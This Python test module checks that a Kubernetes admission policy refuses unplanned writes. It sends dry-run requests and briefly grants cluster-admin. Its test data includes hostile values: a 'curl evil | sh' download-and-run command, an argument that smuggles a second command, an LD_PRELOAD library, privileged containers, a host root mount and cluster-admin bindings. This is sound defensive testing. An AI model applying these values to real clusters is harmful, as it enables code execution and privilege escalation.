"""Writes that no plan asks for, tried on a real API server in the writer's name: each one the server else takes.

All are dry runs, which pass through admission as any write does. The account has every right meanwhile, so that the
admission policies alone stand against them.
"""

from __future__ import annotations

import copy
import http.client
import json
import ssl
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

from enforcer.kubernetes.kinds import API_KINDS
from tests.cluster.api import Api, Manifest

WRITES_MIN = 500
BINDING = "writer-may-all"
_BINDINGS = "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings"
_ONE: Manifest = {"spec": {"containers": [{"name": "server", "image": "registry/none:1"}]}}
_LABELS = {"app": "mine"}


@dataclass(frozen=True, slots=True, kw_only=True)
class OtherWrite:
    """One write.

    Attributes:
        what: for the message.
        body: None to delete.
    """

    what: str
    method: str
    path: str
    body: Any = None


@contextmanager
def with_all_rights(api: Api) -> Iterator[None]:
    """Let the writer do as its admission policies have it, whatever its roles say."""
    subject = {"kind": "ServiceAccount", "name": "gputide-writer", "namespace": "gputide"}
    role = {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}
    api.create(_BINDINGS, {"metadata": {"name": BINDING}, "roleRef": role, "subjects": [subject]})
    try:
        yield
    finally:
        api.delete(f"{_BINDINGS}/{BINDING}")


@dataclass(frozen=True, slots=True, kw_only=True)
class Tried:
    """What became of the writes that the server takes from an administrator.

    Attributes:
        refused: by the admission policy, in its name.
        let_through: writes that were not, with the answer.
    """

    refused: int
    let_through: list[str]


def tried(writes: Sequence[OtherWrite], admin: Writer, writer: Writer) -> Tried:
    """Send each write in both names."""
    refused, let_through = 0, []
    for write in writes:
        status, _ = admin.send(write)
        if status >= 300:
            continue
        status, said = writer.send(write)
        if status == 403 and "ValidatingAdmissionPolicy 'gputide-writer'" in said:
            # An expression that fails to evaluate is answered 422, and would refuse what plans change too.
            refused += 1
        else:
            let_through.append(f"{write.what}: {status} {said}")
    return Tried(refused=refused, let_through=let_through)


class Writer:
    """Sends writes over one connection.

    Args:
        kubeconfig: whose token it has.
    """

    def __init__(self, url: str, ca: Path, kubeconfig: Path) -> None:
        context = ssl.create_default_context(cafile=str(ca))
        self._connection = http.client.HTTPSConnection(urlsplit(url).netloc, timeout=30, context=context)
        token = json.loads(kubeconfig.read_text(encoding="utf-8"))["users"][0]["user"]["token"]
        self._headers = {"Authorization": f"Bearer {token}"}

    def send(self, write: OtherWrite) -> tuple[int, str]:
        """Status and message of the answer."""
        kind = "application/merge-patch+json" if write.method == "PATCH" else "application/json"
        query = "?dryRun=All" if "?" not in write.path else "&dryRun=All"
        body = None if write.body is None else json.dumps(write.body)
        self._connection.request(write.method, write.path + query, body, {**self._headers, "Content-Type": kind})
        answer = self._connection.getresponse()
        said = json.loads(answer.read())
        return answer.status, str(said.get("message", ""))

    def close(self) -> None:
        """Close the connection."""
        self._connection.close()


def path_of(kind: str, namespace: str = "", name: str = "") -> str:
    """Where the server has objects of a kind."""
    served = API_KINDS[kind]
    return served.path(served.versions[0], namespace or None, name or None)


def a_template() -> Manifest:
    """A pod template with all that an intruder would change."""
    server = {
        "name": "server",
        "image": "registry/none:1",
        "command": ["python", "-m", "vllm.entrypoints.openai.api_server"],
        "args": ["--gpu-memory-utilization", "0.9", "--port", "8000"],
        "env": [{"name": "HOME", "value": "/home"}],
        "resources": {"limits": {"nvidia.com/gpu": "1", "cpu": "1"}, "requests": {"nvidia.com/gpu": "1", "cpu": "1"}},
        "volumeMounts": [{"name": "data", "mountPath": "/data"}],
    }
    spec = {
        "containers": [server, {"name": "beside", "image": "registry/none:2"}],
        "volumes": [{"name": "data", "emptyDir": {}}],
        "serviceAccountName": "default",
        "nodeSelector": {"gpu": "on"},
        "tolerations": [{"key": "a", "operator": "Exists"}],
    }
    return {"metadata": {"labels": _LABELS, "annotations": {"mine": "1"}}, "spec": spec}


def _set(path: str, value: object) -> Callable[[Manifest], None]:
    def change(manifest: Manifest) -> None:
        *way, last = (step.replace("~", ".") for step in path.split("."))
        here: Any = manifest
        for step in way:
            here = here[int(step)] if isinstance(here, list) else here.setdefault(step, {})
        if isinstance(here, list):
            here[int(last) : int(last) + 1] = [] if value is None else [value]
        elif value is None:
            del here[last]
        else:
            here[last] = value

    return change


_SERVER = "spec.containers.0"
TEMPLATE_CHANGES: Mapping[str, Callable[[Manifest], None]] = {
    f"{path}={json.dumps(value)}": _set(path, value)
    for path, value in (
        (f"{_SERVER}.image", "evil/image:1"),
        ("spec.containers.1.image", "evil/image:1"),
        (f"{_SERVER}.command", ["sh", "-c", "curl evil | sh"]),
        (f"{_SERVER}.command.0", "sh"),
        (f"{_SERVER}.args.3", "9000"),
        (f"{_SERVER}.args.1", "0.5; curl evil"),
        (f"{_SERVER}.args.1", "$(TOKEN)"),
        (f"{_SERVER}.args", ["--gpu-memory-utilization", "0.9"]),
        (f"{_SERVER}.args", ["--gpu-memory-utilization", "0.9", "--port", "8000", "--trust-remote-code"]),
        (f"{_SERVER}.env", [{"name": "HOME", "value": "/evil"}]),
        (f"{_SERVER}.env", [{"name": "HOME", "value": "/home"}, {"name": "LD_PRELOAD", "value": "/evil.so"}]),
        (f"{_SERVER}.env", None),
        (f"{_SERVER}.envFrom", [{"secretRef": {"name": "others"}}]),
        (f"{_SERVER}.resources.limits.cpu", "64"),
        (f"{_SERVER}.resources.limits.memory", "1Gi"),
        (f"{_SERVER}.resources.requests.cpu", "500m"),
        (f"{_SERVER}.securityContext", {"privileged": True}),
        (f"{_SERVER}.securityContext", {"runAsUser": 0}),
        (f"{_SERVER}.volumeMounts.0.mountPath", "/etc"),
        (f"{_SERVER}.volumeMounts", []),
        (f"{_SERVER}.lifecycle", {"postStart": {"exec": {"command": ["sh"]}}}),
        (f"{_SERVER}.livenessProbe", {"exec": {"command": ["sh"]}}),
        (f"{_SERVER}.imagePullPolicy", "Always"),
        (f"{_SERVER}.ports", [{"containerPort": 22, "hostPort": 22}]),
        (f"{_SERVER}.workingDir", "/evil"),
        (f"{_SERVER}.name", "renamed"),
        ("spec.containers.1", None),
        ("spec.containers.2", {"name": "third", "image": "evil/image:1"}),
        ("spec.initContainers", [{"name": "first", "image": "evil/image:1"}]),
        ("spec.volumes.0", {"name": "data", "hostPath": {"path": "/"}}),
        ("spec.volumes.1", {"name": "secret", "secret": {"secretName": "others"}}),
        ("spec.serviceAccountName", "admin"),
        ("spec.automountServiceAccountToken", True),
        ("spec.hostNetwork", True),
        ("spec.hostPID", True),
        ("spec.hostIPC", True),
        ("spec.securityContext", {"runAsUser": 0}),
        ("spec.nodeSelector", {"gpu": "off"}),
        ("spec.nodeName", "control-plane"),
        ("spec.tolerations.1", {"operator": "Exists"}),
        ("spec.affinity", {"nodeAffinity": {}}),
        ("spec.priorityClassName", "system-node-critical"),
        ("spec.imagePullSecrets", [{"name": "others"}]),
        ("spec.runtimeClassName", "evil"),
        ("spec.dnsPolicy", "Default"),
        ("spec.hostAliases", [{"ip": "10.0.0.1", "hostnames": ["registry"]}]),
        ("spec.terminationGracePeriodSeconds", 0),
        ("spec.shareProcessNamespace", True),
        ("metadata.labels.extra", "1"),
        ("metadata.annotations.mine", "2"),
        ("metadata.annotations.extra", "1"),
        ("metadata.annotations.mine", None),
    )
}
"""What may not become different in a pod template, by what is done."""

TEMPLATES = {
    "Deployment": "spec.template",
    "StatefulSet": "spec.template",
    "DaemonSet": "spec.template",
    "CronJob": "spec.jobTemplate.spec.template",
    "Rollout": "spec.template",
    "LeaderWorkerSet": "spec.leaderWorkerTemplate.workerTemplate",
    "RayCluster": "spec.headGroupSpec.template",
    "Notebook": "spec.template",
    "PyTorchJob": "spec.pytorchReplicaSpecs.Worker.template",
}
"""Where kinds have a template."""
CUSTOM = ("Rollout", "LeaderWorkerSet", "RayCluster", "Notebook", "PyTorchJob")


def owner_of(kind: str, name: str = "mine") -> Manifest:
    """An object of a kind with such a template."""
    selector = {"matchLabels": _LABELS}
    specs: Mapping[str, Manifest] = {
        "Deployment": {"selector": selector},
        "StatefulSet": {"selector": selector, "serviceName": name},
        "DaemonSet": {"selector": selector},
        "CronJob": {"schedule": "0 0 1 1 *"},
    }
    spec = dict(specs.get(kind, {}))
    template = a_template()
    if kind == "CronJob":
        template["spec"]["restartPolicy"] = "Never"
    manifest = {"metadata": {"name": name, "labels": _LABELS}, "spec": spec}
    _set(TEMPLATES[kind], template)(manifest)
    served = API_KINDS[kind]
    group = f"{served.group}/{served.versions[0]}" if served.group else served.versions[0]
    return {"apiVersion": group, "kind": kind, **manifest}


def changed(manifest: Manifest, path: str, change: Callable[[Manifest], None]) -> Manifest:
    """A copy with something different in the template at a path."""
    found = copy.deepcopy(manifest)
    here = found
    for step in path.split("."):
        here = here[step]
    change(here)
    return found


OBJECT_CHANGES = (
    ("metadata.labels.extra", "1"),
    ("metadata.labels.app", None),
    ("metadata.annotations.extra", "1"),
    ("metadata.annotations", {"kubectl.kubernetes.io/last-applied-configuration": "{}"}),
    ("metadata.annotations", {"gputide.io/opt-out": "true"}),
    ("metadata.finalizers", ["example.com/evil"]),
    ("metadata.ownerReferences", [{"apiVersion": "v1", "kind": "Node", "name": "n", "uid": "u"}]),
)
"""What may not become different in the metadata of any object."""
FURTHER = {
    "Deployment": (("spec.paused", True), ("spec.strategy.type", "Recreate"), ("spec.revisionHistoryLimit", 0)),
    "StatefulSet": (("spec.persistentVolumeClaimRetentionPolicy", {"whenDeleted": "Delete"}),),
    "DaemonSet": (("spec.minReadySeconds", 9), ("spec.revisionHistoryLimit", 0)),
    "CronJob": (("spec.schedule", "* * * * *"), ("spec.concurrencyPolicy", "Replace"),
                ("spec.jobTemplate.spec.parallelism", 9), ("spec.jobTemplate.metadata.labels.extra", "1")),
    "Rollout": (("spec.workloadRef", {"name": "evil"}),),
    "Notebook": (("spec.other", 1),),
}  # fmt: skip
_FOR_MINE: Manifest = {"selector": {"matchLabels": _LABELS}, "template": a_template()}
_SPECS: Mapping[str, Manifest] = {
    **{f"apps/v1/namespaces/{{0}}/{plural}": _FOR_MINE for plural in ("deployments", "daemonsets", "replicasets")},
    "batch/v1/namespaces/{0}/jobs": {"template": {"spec": {**_ONE["spec"], "restartPolicy": "Never"}}},
    "autoscaling/v2/namespaces/{0}/horizontalpodautoscalers": {
        "maxReplicas": 9,
        "scaleTargetRef": {"kind": "Deployment", "name": "mine", "apiVersion": "apps/v1"},
    },
}
MAKES: Mapping[str, Manifest] = {
    "/api/v1/namespaces/{0}/pods": {"metadata": {"name": "evil"}, **_ONE},
    "/api/v1/namespaces/{0}/secrets": {"metadata": {"name": "evil"}},
    "/api/v1/namespaces/{0}/configmaps": {"metadata": {"name": "evil"}},
    "/api/v1/namespaces/{0}/services": {"metadata": {"name": "evil"}, "spec": {"ports": [{"port": 1}]}},
    "/api/v1/namespaces/{0}/serviceaccounts": {"metadata": {"name": "evil"}},
    "/api/v1/namespaces/{0}/resourcequotas": {"metadata": {"name": "evil"}},
    "/api/v1/namespaces/{0}/limitranges": {"metadata": {"name": "evil"}},
    "/api/v1/namespaces/{0}/persistentvolumeclaims": {
        "metadata": {"name": "evil"},
        "spec": {"accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "1Gi"}}},
    },
    "/api/v1/namespaces/{0}/serviceaccounts/default/token": {"spec": {}},
    "/apis/networking.k8s.io/v1/namespaces/{0}/networkpolicies": {
        "metadata": {"name": "evil"}, "spec": {"podSelector": {}},
    },
    "/apis/policy/v1/namespaces/{0}/poddisruptionbudgets": {"metadata": {"name": "evil"}},
    "/apis/coordination.k8s.io/v1/namespaces/{0}/leases": {"metadata": {"name": "evil"}},
    "/apis/rbac.authorization.k8s.io/v1/namespaces/{0}/roles": {"metadata": {"name": "evil"}},
    "/apis/rbac.authorization.k8s.io/v1/namespaces/{0}/rolebindings": {
        "metadata": {"name": "evil"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
    },
    **{f"/apis/{place}": {"metadata": {"name": "evil"}, "spec": spec} for place, spec in _SPECS.items()},
}  # fmt: skip
"""What an account may not make in a namespace."""
MAKES_IN_CLUSTER: Mapping[str, Manifest] = {
    "/api/v1/namespaces": {"metadata": {"name": "evil"}},
    "/api/v1/nodes": {"metadata": {"name": "evil"}},
    "/api/v1/persistentvolumes": {
        "metadata": {"name": "evil"},
        "spec": {"capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteOnce"], "hostPath": {"path": "/"}},
    },
    "/apis/rbac.authorization.k8s.io/v1/clusterroles": {"metadata": {"name": "evil"}},
    "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings": {
        "metadata": {"name": "evil"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
    },
    "/apis/scheduling.k8s.io/v1/priorityclasses": {"metadata": {"name": "evil"}, "value": 1000},
    "/apis/storage.k8s.io/v1/storageclasses": {"metadata": {"name": "evil"}, "provisioner": "evil"},
    "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations": {"metadata": {"name": "evil"}},
    "/apis/resource.k8s.io/v1/deviceclasses": {"metadata": {"name": "evil"}, "spec": {}},
}  # fmt: skip


def other_writes(api: Api, namespace: str) -> list[OtherWrite]:
    """Every write; objects that they change are made first, in the namespace and in `kube-system`."""
    found: list[OtherWrite] = []
    for kind, place in TEMPLATES.items():
        owner = owner_of(kind)
        api.create(path_of(kind, namespace), owner)
        here = path_of(kind, namespace, "mine")
        standing = api.ask("GET", here)
        if kind not in CUSTOM:
            # Controllers write its status meanwhile.
            del standing["metadata"]["resourceVersion"]
        for what, change in TEMPLATE_CHANGES.items():
            put = changed(standing, place, change)
            found.append(OtherWrite(what=f"{kind} {what}", method="PUT", path=here, body=put))
        found += _of_object(kind, here, standing, (*OBJECT_CHANGES, *FURTHER.get(kind, ())))
        api.create(path_of(kind, "kube-system"), owner)
        there = path_of(kind, "kube-system", "mine")
        marked = {"metadata": {"annotations": {"gputide.io/plan-id": "evil"}}}
        found.append(OtherWrite(what=f"{kind} of kube-system", method="PATCH", path=there, body=marked))
    found += _of_nodes_and_pods(api, namespace)
    for where in (namespace, "kube-system", "gputide"):
        for path, manifest in MAKES.items():
            if path.endswith("/leases") and where == "gputide":
                continue
            found.append(
                OtherWrite(what=f"make {path.format(where)}", method="POST", path=path.format(where), body=manifest)
            )
    for path, manifest in MAKES_IN_CLUSTER.items():
        found.append(OtherWrite(what=f"make {path}", method="POST", path=path, body=manifest))
    return found


def planned_writes(api: Api, namespace: str) -> list[OtherWrite]:
    """What a plan changes, of the objects that `other_writes` made: no policy may refuse it."""
    return [_planned(api, kind, place, namespace) for kind, place in TEMPLATES.items()]


def _planned(api: Api, kind: str, place: str, namespace: str) -> OtherWrite:
    here = path_of(kind, namespace, "mine")
    owner = api.ask("GET", here)
    if kind not in CUSTOM:
        del owner["metadata"]["resourceVersion"]
    owner["metadata"].setdefault("annotations", {})["gputide.io/previous"] = "{}"

    def change(template: Manifest) -> None:
        server = template["spec"]["containers"][0]
        for part in ("limits", "requests"):
            server["resources"][part]["nvidia.com/gpumem"] = "4000"
        server["args"][1] = "0.3"
        server["args"].append("--kv-cache-memory-bytes=1000")
        server["env"].append({"name": "GPU_CORE_UTILIZATION_POLICY", "value": "force"})
        template["metadata"]["annotations"]["gputide.io/plan-id"] = "0" * 64

    return OtherWrite(what=f"{kind} as planned", method="PUT", path=here, body=changed(owner, place, change))


def clear(api: Api) -> None:
    """Take away what `other_writes` made outside of its namespace."""
    for path in (
        *(path_of(kind, "kube-system", "mine") for kind in TEMPLATES), "/api/v1/nodes/theirs",
        "/api/v1/namespaces/kube-system/pods/coredns-abcde", "/api/v1/namespaces/kube-system/configmaps/coredns",
        "/api/v1/namespaces/gputide/configmaps/coredns",
    ):  # fmt: skip
        api.delete(path)


def _of_object(
    kind: str, path: str, standing: Manifest, changes: tuple[tuple[str, object], ...]
) -> Iterator[OtherWrite]:
    for field, value in changes:
        put = copy.deepcopy(standing)
        put["metadata"].setdefault("labels", {}).setdefault("app", "mine")
        _set(field, value)(put)
        yield OtherWrite(what=f"{kind} {field}={json.dumps(value)}", method="PUT", path=path, body=put)


def _of_nodes_and_pods(api: Api, namespace: str) -> Iterator[OtherWrite]:
    api.create("/api/v1/nodes", {"metadata": {"name": "theirs", "labels": _LABELS}})
    node = api.ask("GET", "/api/v1/nodes/theirs")
    del node["metadata"]["resourceVersion"]
    of_node = (
        ("spec.taints", [{"key": "a", "effect": "NoSchedule"}]),
        ("spec.providerID", "evil://1"),
        ("metadata.labels.node-role~kubernetes~io/control-plane", ""),
        ("metadata.annotations.hami~io/node-nvidia-register", "[]"),
    )
    yield from _of_object("Node", "/api/v1/nodes/theirs", node, (*OBJECT_CHANGES, *of_node))
    # Controllers of the owners above would adopt a pod with their labels, and remove what is one too many.
    alone = {"metadata": {"name": "mine", "labels": {"app": "alone"}}, **_ONE}
    api.create(f"/api/v1/namespaces/{namespace}/pods", alone)
    here = f"/api/v1/namespaces/{namespace}/pods/mine"
    pod = api.ask("GET", here)
    del pod["metadata"]["resourceVersion"]
    of_pod = (
        (f"{_SERVER}.image", "evil/image:1"),
        ("spec.activeDeadlineSeconds", 1),
        ("metadata.annotations.hami~io/vgpu-devices-allocated", "GPU-1,NVIDIA,1,1:;"),
        ("metadata.annotations.scheduling~k8s~io/group-name", "evil"),
    )
    yield from _of_object("Pod", here, pod, (*OBJECT_CHANGES, *of_pod))
    status = {"status": {"phase": "Failed"}}
    yield OtherWrite(what="status of a node", method="PATCH", path="/api/v1/nodes/theirs/status", body=status)
    yield OtherWrite(what="status of a pod", method="PATCH", path=f"{here}/status", body=status)
    for path in (
        here,
        "/api/v1/nodes/theirs",
        path_of("Deployment", namespace, "mine"),
        f"/api/v1/namespaces/{namespace}",
    ):
        yield OtherWrite(what=f"delete {path}", method="DELETE", path=path)
    api.create("/api/v1/namespaces/kube-system/pods", {"metadata": {"name": "coredns-abcde"}, **_ONE})
    for where in ("kube-system", "gputide"):
        config = {"metadata": {"name": "coredns"}, "data": {"Corefile": "."}}
        api.create(f"/api/v1/namespaces/{where}/configmaps", config)
        yield OtherWrite(
            what=f"ConfigMap of {where}", method="PATCH", path=f"/api/v1/namespaces/{where}/configmaps/coredns",
            body={"data": {"Corefile": "evil"}},
        )  # fmt: skip
    eviction = {"apiVersion": "policy/v1", "kind": "Eviction", "metadata": {"name": "coredns-abcde"}}
    path = "/api/v1/namespaces/kube-system/pods/coredns-abcde/eviction"
    yield OtherWrite(what="evict a pod of kube-system", method="POST", path=path, body=eviction)
